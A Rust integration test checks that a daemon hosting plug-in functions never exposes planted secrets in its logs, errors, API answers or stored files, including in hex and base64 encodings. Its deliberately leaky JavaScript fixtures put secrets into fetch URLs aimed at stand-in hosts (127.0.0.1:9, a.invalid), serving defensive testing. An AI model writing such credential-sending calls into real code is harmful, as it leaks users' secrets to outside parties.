//! A secret leaves only for its purpose. Secrets of every kind are planted in a daemon whose
//! functions log, throw and return all that they are given; then the database, the logs and every
//! answer are searched for them.

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use mortise_tests::daemon::{Daemon, Installed, Options};
use mortise_tests::eventually;
use mortise_tests::http::Response;
use mortise_tests::snap_in::{Parts, sign};
use serde_json::{Value, json};

const PATIENCE: Duration = Duration::from_secs(60);

/// The one read that is for secrets (of people, for functions).
const FOR_SECRETS: &str = "snap-ins.resources";

/// What all secrets here are made of, with whatever is hard to recognize between the pieces.
const PIECES: [&str; 18] = [
    "hushTokenOne7f3a9c",
    "hushTokenTwo41d0be",
    "hushTokenEnd92c6e1",
    "hushUserName5b8d24",
    "hushPassword0e7fa3",
    "hushSigningK61cc0d",
    "hushClientSe8842fa",
    "hushAuthCode1d93b7",
    "hushAccessTo730aae",
    "hushRefreshT24e6c8",
    "hushRefusedS9fb015",
    "hushMisplaced6d41e",
    "hushKeyLineA3c77f0",
    "hushKeyLineBe18d52",
    "hushRenewedT5a06b9",
    "hushUsersOwn8c1e47",
    "hushWebhookS2f94ab",
    "hushHeaderOf70d3c5",
];

fn token() -> String {
    let [one, two, end] = [PIECES[0], PIECES[1], PIECES[2]];
    format!("{one}\"{two}\\ \n\té🔑/'<{end}")
}

const SECTIONS: &str = "
keyrings:
  organization:
    - {name: token, display_name: Token, description: Plain., types: [snap_in_secret]}
    - {name: key, description: Of several lines., types: [snap_in_secret]}
    - {name: fields, description: Two of them., types: [two-fields]}
    - {name: account, description: OAuth2., types: [account]}
    - {name: checked, description: Never right., types: [checked], optional: true}
  user:
    - {name: mine, description: Of one person., types: [snap_in_secret]}
developer_keyrings:
  - {name: signing, display_name: Signing, description: Plain.}
  - {name: app, display_name: App, description: A client., types: [oauth-secret]}
keyring_types:
  - id: two-fields
    name: Two fields
    description: A user and a password.
    kind: Secret
    secret_config:
      secret_transform: '.user + \":\" + .password | @base64'
      fields:
        - {id: user, name: User, description: Who}
        - {id: password, name: Password, description: Which}
  - id: checked
    name: Checked
    description: Asks first.
    kind: Secret
    secret_config:
      token_verification:
        url: http://ADDRESS/refuse
        method: POST
        headers: {Authorization: \"Bearer [API_KEY]\"}
        query_params: {key: \"[API_KEY]\"}
  - id: account
    name: Account
    description: Somebody logs in.
    kind: Oauth2
    oauth_secret: app
    scopes: [{name: read, description: Read, value: read}]
    authorize:
      type: config
      auth_url: http://ADDRESS/authorize
      token_url: http://ADDRESS/token
      grant_type: authorization_code
      auth_query_parameters: {client_id: \"[CLIENT_ID]\", scope: \"[SCOPES]\", response_type: code}
      token_query_parameters: {client_id: \"[CLIENT_ID]\", client_secret: \"[CLIENT_SECRET]\"}
    refresh:
      type: config
      url: http://ADDRESS/refresh
      method: POST
      query_parameters: {grant_type: refresh_token, refresh_token: \"[REFRESH_TOKEN]\"}
    revoke:
      type: config
      url: http://ADDRESS/revoke
      method: POST
      headers: {Authorization: \"Bearer [ACCESS_TOKEN]\"}
      query_parameters: {token: \"[ACCESS_TOKEN]\"}
inputs:
  organization:
    - {name: fails, description: Whether it does., field_type: bool, default_value: true}
    - {name: kept, description: What a hook leaves., field_type: text, default_value: nothing}
hooks:
  - {type: activate, function: on_activate}
tags:
  - {name: seen, description: Was seen.}
commands:
  - {name: tell, namespace: leaky, description: Tells., surfaces: [{surface: discussions}], function: command}
snap_kit_actions:
  - {name: press, function: panel}
snap_components:
  - {name: panel, surface: issue, initializer: panel, snap_kit_action_name: press}
operations:
  - {name: Tell, description: Tells., slug: tell, function: command, type: action}
";

/// Prints its secrets, and tells them to whoever sends something that is not signed, or asks.
const TELLING: &str = r#"
package rego
raw := base64.decode(input.request.body_raw)
signature := crypto.hmac.sha256(raw, input.parameters.secret)
signed { signature == input.request.headers["X-Signature-256"] }
output = {"event": {"told": input.parameters, "text": json.marshal(input.parameters)}, "event_key": "tick"} {
  signed
  input.request.body.tell
} else = {"event": input.request.body, "event_key": "tick"} {
  signed
  print("signed", input.parameters)
} else = {"response": {"status_code": 401, "headers": {"X-Told": base64.encode(input.parameters.token)}, "body": json.marshal(input.parameters)}} {
  print("not signed", input.parameters.token)
}
"#;

const SAY_IT_ALL: &str = "
const say = async (event) => {
  console.log(event);
  console.log('as a text', JSON.stringify(event));
  console.error('twice', JSON.stringify({ inner: JSON.stringify(event) }));
  console.log(event.input_data.keyrings, event.context.secrets);
  const response = await fetch(event.execution_metadata.devrev_endpoint + '/snap-ins.resources', {
    method: 'POST',
    headers: {
      authorization: event.context.secrets.service_account_token,
      'content-type': 'application/json',
    },
    body: JSON.stringify({ id: event.context.snap_in_id, user: 'ada' }),
  });
  const resources = await response.json();
  if (resources.keyrings?.mine?.secret?.length !== 18) throw 'the secret of ada is missing';
  console.log(response.status, resources, JSON.stringify(resources));
  for (const [name, secret] of Object.entries(event.input_data.keyrings)) {
    console.log(name, secret, encodeURIComponent(secret));
    console.log(`x${secret}y`, secret.split('\\n').join('\\n   '));
    const basic = Buffer.from('u:' + secret).toString('base64');
    console.log({ headers: { Authorization: 'Basic ' + basic } }, Buffer.from(secret).toString('hex'));
    console.log('cut off', '.'.repeat(16 * 1024 - 30) + secret);
    try {
      await fetch('http://127.0.0.1:9/?key=' + encodeURIComponent(secret));
    } catch (error) {
      console.warn(error, error.message, String(error));
    }
  }
  return resources;
};
";

const WORK: &str = "
export const run = async ([event]) => {
  const { how } = event.payload;
  if (how.startsWith('return')) event.resources = await say(event);
  switch (how) {
    case 'throw an error': throw new Error(JSON.stringify(event));
    case 'throw a text': throw `it is ${event.input_data.keyrings.token}`;
    case 'throw the event': throw event;
    case 'throw a retry': throw Object.assign(new Error(event.input_data.keyrings.token), { retry: true });
    case 'return a text': return JSON.stringify(event);
    default: return event;
  }
};";

const ON_ACTIVATE: &str = "
export const run = async ([event]) => {
  await say(event);
  if (event.input_data.global_values.fails) throw new Error(JSON.stringify(event.input_data));
  return { status: 'active', inputs_values: { kept: event.input_data.keyrings.token } };
};";

/// Calls out with its tokens where nobody listens, and answers with all that it was given.
const COMMAND: &str = "
export const run = async ([event]) => {
  const { actor_session_token: actor } = event.context.secrets;
  const { token } = event.input_data.keyrings;
  if (event.payload.command_id && !actor) throw 'there is no token for who gave the command';
  for (const secret of [actor ?? 'nobody', token]) {
    const text = encodeURIComponent(secret);
    for (const url of [`http://${text}:${text}@127.0.0.1:9/a/${text}?${text}#${text}`, `http://a.invalid/${text}`]) {
      await fetch(url, { method: 'POST', headers: { a: text } }).catch((error) => console.log(error));
    }
  }
  console.log(event);
  return { output: { values: [event] }, port_outputs: [actor] };
};";

/// Draws all that it was given.
const PANEL: &str = "
export const run = async ([event]) => {
  if (event.payload.action && !event.context.secrets.actor_session_token) throw 'nobody pressed it';
  const text = JSON.stringify(event);
  return { snap_kit_body: { body: { snaps: [{ type: 'plain_text', text }] } } };
};";

/// Where a secret was found that must not be there.
struct Search {
    /// What to look for, and what it is.
    texts: Vec<(String, String)>,
    /// Master keys as they are.
    keys: Vec<Vec<u8>>,
}

impl Search {
    fn new(master_keys: &[String]) -> Search {
        let mut texts = Vec::new();
        for piece in PIECES {
            let digits = hex::encode(piece);
            for text in [piece.to_owned(), digits.to_uppercase(), digits] {
                texts.push((text, piece.to_owned()));
            }
            for shift in 0..3usize {
                let shifted = [&[0; 3][..shift], piece.as_bytes()].concat();
                let whole = (shift * 8).div_ceil(6)..shifted.len() * 8 / 6;
                for encoded in [STANDARD.encode(&shifted), URL_SAFE_NO_PAD.encode(&shifted)] {
                    texts.push((encoded[whole.clone()].to_owned(), format!("{piece} in base 64")));
                }
            }
        }
        texts.extend(master_keys.iter().map(|it| (it.clone(), "a master key".to_owned())));
        // What every service-account token begins with.
        texts.push(("mst_eyJ".to_owned(), "a token of a service account".to_owned()));
        let keys = master_keys.iter().map(|it| hex::decode(it).expect("they are hexadecimal"));
        Search { texts, keys: keys.collect() }
    }

    #[track_caller]
    fn check(&self, place: &str, bytes: &[u8]) {
        let text = String::from_utf8_lossy(bytes);
        for (needle, what) in &self.texts {
            if let Some(at) = text.find(needle.as_str()) {
                let around = text.as_bytes()[at.saturating_sub(300)..].iter().take(500).copied();
                let around = String::from_utf8_lossy(&around.collect::<Vec<_>>()).into_owned();
                panic!("{what} is in {place}:\n...{around}...");
            }
        }
        for key in &self.keys {
            let found = bytes.windows(key.len()).any(|it| it == key);
            assert!(!found, "the bytes of a master key are in {place}");
        }
    }

    /// All files of a directory, but for those that are made to hold secrets.
    fn check_files(&self, directory: &Path) {
        for entry in std::fs::read_dir(directory).expect("it is there") {
            let path = entry.expect("readable").path();
            let name = path.file_name().and_then(|it| it.to_str()).unwrap_or_default();
            if path.is_dir() {
                self.check_files(&path);
            } else if path.is_file() && !["master.key", "admin.token"].contains(&name) {
                let bytes = std::fs::read(&path).expect("readable");
                self.check(&path.display().to_string(), &bytes);
            }
        }
    }
}

/// A daemon whose every answer is searched.
struct Bench {
    daemon: Daemon,
    search: Search,
    /// The external system.
    server: SocketAddr,
}

impl Bench {
    #[track_caller]
    fn ask(&self, name: &str, parameters: &Value) -> Response {
        let answer = self.daemon.try_call(name, parameters).expect("the daemon answers");
        self.search.check(&format!("the answer of {name} {parameters:.80}"), &answer.body);
        answer
    }

    #[track_caller]
    fn call(&self, name: &str, parameters: &Value) -> Value {
        let answer = self.ask(name, parameters);
        assert_eq!(answer.status, 200, "{name}: {}", answer.text());
        answer.json()
    }

    #[track_caller]
    fn refused(&self, name: &str, parameters: &Value) {
        let answer = self.ask(name, parameters);
        assert!((400..500).contains(&answer.status), "{name}: {}", answer.text());
    }

    fn everything_at_rest(&self) {
        self.search.check_files(self.daemon.directory());
    }
}

/// An external system: gives tokens, and refuses secrets with all that it was sent.
fn start_server() -> SocketAddr {
    let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
    let address = listener.local_addr().expect("it is bound");
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            // Whoever hangs up is not our concern.
            std::thread::spawn(move || serve(stream).ok());
        }
    });
    address
}

fn serve(stream: TcpStream) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head)? == 0 {
            return Ok(());
        }
    }
    let length = head
        .lines()
        .find_map(|it| it.to_lowercase().strip_prefix("content-length:")?.trim().parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body)?;
    let body = String::from_utf8_lossy(&body);
    let asked: Value = serde_json::from_str(&body).unwrap_or_default();
    let (status, answer) = if asked["type"] == "verify" {
        ("200 OK", json!({ "challenge": asked["verify"]["challenge"] }))
    } else if head.contains(" /token") && body.contains(PIECES[7]) {
        let tokens = json!({
            "access_token": PIECES[8], "refresh_token": PIECES[9], "token_type": "bearer", "expires_in": 3600,
        });
        ("200 OK", tokens)
    } else {
        let said = format!("not with {head} {body}");
        (
            "400 Bad Request",
            json!({ "error": "invalid_grant", "error_description": said, "message": said }),
        )
    };
    let answer = answer.to_string();
    write!(
        &stream,
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
         Connection: close\r\n\r\n{answer}",
        answer.len()
    )
}

/// Sets all keyrings, and sends what is wrong too: refusals must not quote it.
fn plant(bench: &Bench, installed: &Installed) {
    let set = |name: &str, more: Value| {
        let mut body = json!({ "snap_in": installed.id, "name": name });
        for (key, value) in more.as_object().expect("an object") {
            body[key] = value.clone();
        }
        body
    };
    for body in [
        set("token", json!({ "secret": [PIECES[11]] })),
        set("token", json!({ "secret": { "it": PIECES[11] } })),
        set("token", json!({ "fields": { "secret": PIECES[11] } })),
        set("token", json!({ "fields": PIECES[11] })),
        set("fields", json!({ "secret": PIECES[11] })),
        set("fields", json!({ "fields": { "user": PIECES[11] } })),
        set(
            "fields",
            json!({ "fields": { "user": PIECES[11], "password": 1, "more": PIECES[11] } }),
        ),
        set("nothing", json!({ "secret": PIECES[11] })),
        set("account", json!({ "secret": PIECES[11] })),
        // The other side refuses it, and says why at length.
        set("checked", json!({ "secret": PIECES[10] })),
    ] {
        bench.refused("keyrings.set", &body);
    }
    let key = format!("-----BEGIN KEY-----\n{}\n{}\n-----END KEY-----\n", PIECES[12], PIECES[13]);
    bench.call("keyrings.set", &set("token", json!({ "secret": token() })));
    bench.call("keyrings.set", &set("key", json!({ "secret": key })));
    let fields = json!({ "user": PIECES[3], "password": PIECES[4] });
    bench.call("keyrings.set", &set("fields", json!({ "fields": fields })));
    let package = "leaky";
    for body in [
        json!({ "package": package, "name": "signing", "secret": PIECES[5] }),
        json!({ "package": package, "name": "app", "client_id": "app-1", "client_secret": PIECES[6] }),
    ] {
        bench.call("developer-keyrings.set", &body);
    }
    let nobody = json!({ "package": "nobody", "name": "signing", "secret": PIECES[11] });
    bench.refused("developer-keyrings.set", &nobody);

    // Its endpoint repeats all that it is sent. The one who sets the secret is answered with it.
    let webhook = json!({
        "url": format!("http://{}/hook", bench.server), "event_types": ["leaf_created"],
        "secret": PIECES[16], "headers": [{ "name": "x-key", "value": PIECES[17] }],
    });
    bench.daemon.call("webhooks.create", &webhook);
    for wrong in [
        json!({ "url": webhook["url"], "event_types": [], "secret": PIECES[16] }),
        json!({ "url": webhook["url"], "event_types": ["leaf_created"], "secret": format!("{0}{0}", PIECES[16]) }),
        json!({
            "url": webhook["url"], "event_types": ["leaf_created"],
            "headers": [{ "name": "x-key", "value": format!("{}\n", PIECES[17]) }],
        }),
    ] {
        bench.refused("webhooks.create", &wrong);
    }

    // Something for the calls that read artifacts.
    let prepared = bench.call("artifacts.prepare", &json!({ "file_name": "a.txt" }));
    let url = prepared["url"].as_str().expect("a URL");
    let path = &url[url.find("/artifacts/").expect("one of an artifact")..];
    let sent = bench.daemon.connect().send("PUT", path, &[], b"a file").expect("an answer");
    assert_eq!(sent.status, 200, "{}", sent.text());

    let ada = json!({ "id": installed.id, "user": "ada" });
    bench.call("snap-ins.enable", &ada);
    bench.call("keyrings.set", &set("mine", json!({ "user": "ada", "secret": PIECES[15] })));

    // A code that the other side does not know, and then the right one.
    for (code, status) in
        [("wrong".to_owned() + PIECES[11], 400..500), (PIECES[7].to_owned(), 200..400)]
    {
        let begun = bench.call("keyrings.connect", &set("account", json!({})));
        let url = begun["authorize_url"].as_str().expect("a URL");
        let state =
            url.split("state=").nth(1).and_then(|it| it.split('&').next()).expect("a state");
        let path = format!("/keyrings.authorize?state={state}&code={code}");
        let answer = bench.daemon.connect().send("GET", &path, &[], b"").expect("an answer");
        bench.search.check("the page after an authorization", &answer.body);
        assert!(status.contains(&answer.status), "{}: {}", answer.status, answer.text());
    }
    let keyring = bench.call("keyrings.get", &set("account", json!({})));
    assert_eq!(keyring["keyring"]["state"], "ready", "{keyring}");
}

/// Lets the function do everything that a function does wrong.
fn run_all(bench: &Bench, installed: &Installed) {
    let ways = [
        "return the event",
        "return a text",
        "throw an error",
        "throw a text",
        "throw the event",
        "throw a retry",
    ];
    for how in ways {
        let event = bench.daemon.send_event(installed, &json!({ "how": how }));
        let event = bench.call("events.get", &json!({ "id": event }));
        let which = json!({ "id": event["event"]["runs"][0], "wait_seconds": 60 });
        let run = bench.call("runs.get", &which)["run"].clone();
        let logs = bench.call("runs.logs", &json!({ "id": which["id"] })).to_string();
        let (state, shown) = match how.starts_with("return") {
            true => ("succeeded", run["result"].to_string() + &logs),
            false => ("failed", run.to_string()),
        };
        assert!(run["state"] == state || run["state"] == "dead", "{how}: {run}");
        assert!(shown.contains("[secret]"), "{how}: {run}");

        // Called by hand, it answers the same.
        let call =
            json!({ "snap_in": installed.id, "function": "work", "payload": { "how": how } });
        let answer = bench.ask("functions.call", &call);
        assert!(answer.text().contains("[secret]"), "{how}: {}", answer.text());
    }
    let command = json!({ "namespace": "leaky", "name": "tell", "parameters": "all" });
    let operation = json!({ "snap_in": installed.id, "slug": "tell" });
    for (call, parameters) in [("commands.execute", command), ("operations.execute", operation)] {
        let answer = bench.call(call, &parameters);
        assert!(answer["error"].is_null(), "{answer}");
        let requests = answer["requests"].as_array().expect("what it called out to");
        let target = |at: usize| requests[at]["target"].as_str().expect("a text");
        assert_eq!(requests.len(), 4, "{answer}");
        assert_eq!(target(2), "http://127.0.0.1:9/a/[secret]", "{answer}");
        assert_eq!(target(3), "http://a.invalid/[secret]", "{answer}");
    }
    let panel = json!({ "snap_in": installed.id, "name": "panel" });
    let drawn = bench.call("snap-components.render", &panel);
    let press = json!({
        "id": format!("{}/snap-kit-actions/press", installed.id),
        "actions": [{ "action_id": "press", "value": "pressed" }],
        "from": { "snap_component": "panel" },
    });
    let pressed = bench.call("snap-kit-action.execute.deferred", &press);
    for answer in [&drawn, &pressed["results"][0]] {
        assert!(answer["displayed"].to_string().contains("[secret]"), "{answer}");
    }
}

/// Records requests that carry secrets, and tries them and others.
fn record_and_try(bench: &Bench, installed: &Installed) {
    let source = &installed.source;
    bench.call("event-sources.record", &json!({ "id": source, "count": 2 }));
    let encoded: String = token().bytes().map(|it| format!("%{it:02X}")).collect();
    let path = format!("{}?api_key={}&note={encoded}&{encoded}", installed.path, PIECES[3]);
    let basic = STANDARD.encode(format!("user:{}", token()));
    let bearer = format!("Bearer {}", PIECES[4]);
    let headers = [
        ("authorization", bearer.as_str()),
        ("x-gitlab-token", PIECES[5]),
        ("cookie", PIECES[6]),
        ("x-note", basic.as_str()),
    ];
    let mut sent = headers.to_vec();
    let signature = sign(b"{}");
    sent.push(("x-signature-256", signature.as_str()));
    // What the policy answers is its own affair: it is not searched.
    for headers in [&headers[..], &sent[..]] {
        bench.daemon.connect().send("POST", &path, headers, b"{}").expect("an answer");
    }
    let recorded = eventually("both are recorded", PATIENCE, || {
        let answer = bench.call("event-sources.recorded", &json!({ "id": source }));
        answer["recorded"].as_array().filter(|it| it.len() == 2).cloned()
    });
    for request in recorded {
        let which = json!({ "id": source, "recorded": request["id"] });
        let shown = bench.call("event-sources.get-recorded", &which)["recorded"].clone();
        let masked = "header authorization, header cookie, header x-gitlab-token, header x-note, \
                      query api_key, query note, query";
        let names: Vec<_> =
            shown["masked"].as_array().expect("names").iter().filter_map(Value::as_str).collect();
        assert_eq!(names.join(", "), masked, "{shown}");
        let tried = bench.call("event-sources.test", &which);
        assert_eq!(tried["outcome"], request["outcome"], "{tried}");
        assert!(!tried["log"].as_array().expect("lines").is_empty(), "{tried}");
    }
    let body = json!({ "tell": true });
    let signature = sign(body.to_string().as_bytes());
    let request = json!({ "headers": { "x-signature-256": signature }, "body": body.to_string() });
    let tried = bench.call("event-sources.test", &json!({ "id": source, "request": request }));
    assert_eq!(tried["outcome"], "accepted", "{tried}");
    assert!(tried["events"][0]["payload"]["told"]["token"].is_string(), "{tried}");
}

/// Makes every call that reads, with everything that can be named.
fn read_everything(bench: &Bench, installed: &Installed) {
    let document = bench.daemon.connect().send("GET", "/api/v1/openapi.json", &[], b"");
    let document = document.expect("an answer").json();
    let paths = document["paths"].as_object().expect("paths");
    let reads: Vec<&str> = paths
        .iter()
        .filter(|(_, item)| item["get"].is_object())
        .filter_map(|(path, _)| path.strip_prefix("/api/v1/"))
        .collect();
    assert!(reads.len() > 15, "{reads:?}");

    let snap_in = bench.call("snap-ins.get", &json!({ "id": installed.id }))["snap_in"].clone();
    let mut ids: BTreeSet<String> = ["leaky".to_owned(), installed.source.clone()].into();
    let properties = json!({ "text": { "type": "string" } });
    let leaf =
        json!({ "name": "leaf", "id_prefix": "lef", "schema": { "properties": properties } });
    bench.call("object-types.apply", &json!({ "object_types": [leaf] }));
    let made = json!({ "type": "leaf", "object": { "text": "of no interest" } });
    collect_ids(&bench.call("objects.create", &made), &mut ids);
    let view = json!({ "name": "leaves", "object_type": "leaf" });
    // The second time it is there.
    bench.ask("views.create", &view);
    ids.insert("leaves".to_owned());
    for kind in ["users", "principal-groups", "service-accounts"] {
        bench.ask(&format!("{kind}.create"), &json!({ "name": "somebody" }));
    }
    collect_ids(&snap_in, &mut ids);
    for list in reads.iter().filter(|it| it.ends_with(".list")) {
        collect_ids(&bench.ask(list, &json!({ "limit": 500 })).json(), &mut ids);
    }
    let mut bodies = vec![json!({}), json!({ "snap_in": installed.id, "package": "leaky" })];
    for name in ["token", "key", "fields", "account", "checked", "signing", "app", "mine", "panel"]
    {
        bodies.push(json!({ "snap_in": installed.id, "name": name }));
        bodies.push(json!({ "snap_in": installed.id, "name": name, "user": "ada" }));
    }
    bodies.push(json!({ "id": format!("{}/commands/leaky/tell", installed.id) }));
    bodies.push(json!({ "type": "leaf" }));
    bodies.push(json!({ "name": "leaf" }));
    let webhook = bench.call("webhooks.list", &json!({}))["webhooks"][0]["id"].clone();
    let failed = eventually("the endpoint has refused something", PATIENCE, || {
        let seen = bench.call("webhooks.deliveries", &json!({ "id": webhook }));
        let first = seen["deliveries"][0].clone();
        (first["attempts"].as_u64()? > 0).then_some(first)
    });
    bodies.push(json!({ "id": webhook, "event": failed["id"] }));
    let recorded = bench.call("event-sources.recorded", &json!({ "id": installed.source }));
    for request in recorded["recorded"].as_array().expect("a list") {
        bodies.push(json!({ "id": installed.source, "recorded": request["id"] }));
    }
    for id in &ids {
        bodies.push(json!({ "id": id }));
        bodies.push(json!({ "id": id, "version": snap_in["version"] }));
        bodies.push(json!({ "id": id, "user": "ada" }));
        bodies.push(json!({ "snap_in": id }));
        bodies.push(json!({ "package": id }));
    }
    for read in reads.into_iter().filter(|it| *it != FOR_SECRETS) {
        let answers = bodies.iter().filter(|it| bench.ask(read, it).status == 200).count();
        assert!(answers > 0, "{read} was never answered: give it a body here that it takes");
        let token = format!("Bearer {}", bench.daemon.token());
        let headers = [("authorization", token.as_str())];
        for id in &ids {
            let path = format!("/api/v1/{read}?id={id}");
            let answer = bench.daemon.connect().send("GET", &path, &headers, b"");
            bench.search.check(&path, &answer.expect("an answer").body);
        }
    }
}

fn collect_ids(value: &Value, ids: &mut BTreeSet<String>) {
    match value {
        Value::String(text) if text.len() == 30 && text.as_bytes()[3] == b'_' => {
            ids.insert(text.clone());
        }
        Value::Array(items) => items.iter().for_each(|it| collect_ids(it, ids)),
        Value::Object(members) => members.values().for_each(|it| collect_ids(it, ids)),
        Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[test]
fn secrets_are_nowhere_but_where_they_are_for() {
    let server = start_server();
    let settings =
        format!("[log]\nlevel = \"debug,mortise=trace\"\n[egress]\nallow = [\"{server}\"]\n");
    let daemon = Daemon::start_with(Options { settings, ..Options::default() });
    let keys = std::fs::read_to_string(daemon.state_dir().join("master.key")).expect("made");
    let keys: Vec<String> = keys.lines().map(str::to_owned).collect();
    let bench = Bench { search: Search::new(&keys), daemon, server };

    let code = |it: &str| format!("{SAY_IT_ALL}{it}");
    let parts = Parts::new("leaky", TELLING, &code(WORK))
        .with_parameter("token: ${{ keyrings.token }}")
        .with_sections(&SECTIONS.replace("ADDRESS", &server.to_string()))
        .with_function("on_activate", &code(ON_ACTIVATE))
        .with_function("panel", &code(PANEL))
        .with_function("command", &code(COMMAND));
    let installed = bench.daemon.install_draft(&parts);
    plant(&bench, &installed);

    // The hook throws all that it is given, and then leaves a secret in an input.
    let activate = json!({ "id": installed.id, "wait_seconds": 60 });
    let failed = bench.call("snap-ins.activate", &activate)["snap_in"].clone();
    assert_eq!(failed["state"], "ERROR", "{failed}");
    assert!(failed["reason"].as_str().is_some_and(|it| it.contains("[secret]")), "{failed}");
    let update = json!({ "id": installed.id, "inputs_values": { "fails": false } });
    bench.call("snap-ins.update", &update);
    let active = bench.call("snap-ins.activate", &activate)["snap_in"].clone();
    assert_eq!(active["state"], "ACTIVE", "{active}");
    assert!(active["inputs"].to_string().contains("[secret]"), "{active}");

    run_all(&bench, &installed);
    record_and_try(&bench, &installed);
    read_everything(&bench, &installed);
    bench.everything_at_rest();

    // A secret that is replaced, and a key that is.
    let renewed = json!({ "snap_in": installed.id, "name": "token", "secret": PIECES[14] });
    bench.call("keyrings.set", &renewed);
    bench.call("keys.rotate", &json!({ "wait_seconds": 60 }));
    run_all(&bench, &installed);
    read_everything(&bench, &installed);
    bench.everything_at_rest();
    // The audit log tells of each secret that was set, and of none what it is: all of it was searched
    // with the other answers and files.
    let told = json!({ "call": "keyrings.set", "limit": 500 });
    let told = bench.call("audit.list", &told)["rows"].as_array().cloned().expect("rows");
    assert!(told.len() > 4, "{told:#?}");
    for row in &told {
        for secret in ["secret", "fields"] {
            let kept = &row["request"][secret];
            assert!(kept.is_null() || kept == "********", "{row:#}");
        }
    }
    assert!(told.iter().any(|it| it["outcome"] == "done"), "{told:#?}");
    assert!(bench.daemon.terminate().success());
    bench.everything_at_rest();

    // They are still there for those whom they are for.
    bench.daemon.restart();
    let settled = eventually("the snap-in is there again", PATIENCE, || {
        let call = json!({
            "snap_in": installed.id, "function": "work", "payload": { "how": "return the event" },
        });
        let answer = bench.ask("functions.call", &call);
        (answer.status == 200).then(|| answer.json())
    });
    assert_eq!(settled["result"]["input_data"]["keyrings"]["token"], "[secret]", "{settled}");

    // The other side wants none of it any more, and repeats it all.
    let account = json!({ "snap_in": installed.id, "name": "account" });
    for call in ["keyrings.verify", "keyrings.refresh", "keyrings.revoke"] {
        bench.refused(call, &account);
    }
    read_everything(&bench, &installed);
    bench.everything_at_rest();
}

#[test]
fn the_search_finds_what_it_is_for() {
    let search = Search::new(&["5a".repeat(32)]);
    search.check("here", b"nothing of interest, in base 64 bm90aGluZyBvZiBpbnRlcmVzdA==");
    let piece = PIECES[4];
    let all = format!("user:{piece}!");
    for text in [
        format!("<{piece}>"),
        hex::encode(&all),
        hex::encode_upper(&all),
        STANDARD.encode(&all),
        STANDARD.encode(&all[1..]),
        URL_SAFE_NO_PAD.encode(&all[2..]),
        "5a".repeat(32),
        "Z".repeat(32),
        "bearer mst_eyJzZXJ2aWNl".to_owned(),
    ] {
        let found = std::panic::catch_unwind(|| search.check("here", text.as_bytes()));
        assert!(found.is_err(), "{text} was not found");
    }
}
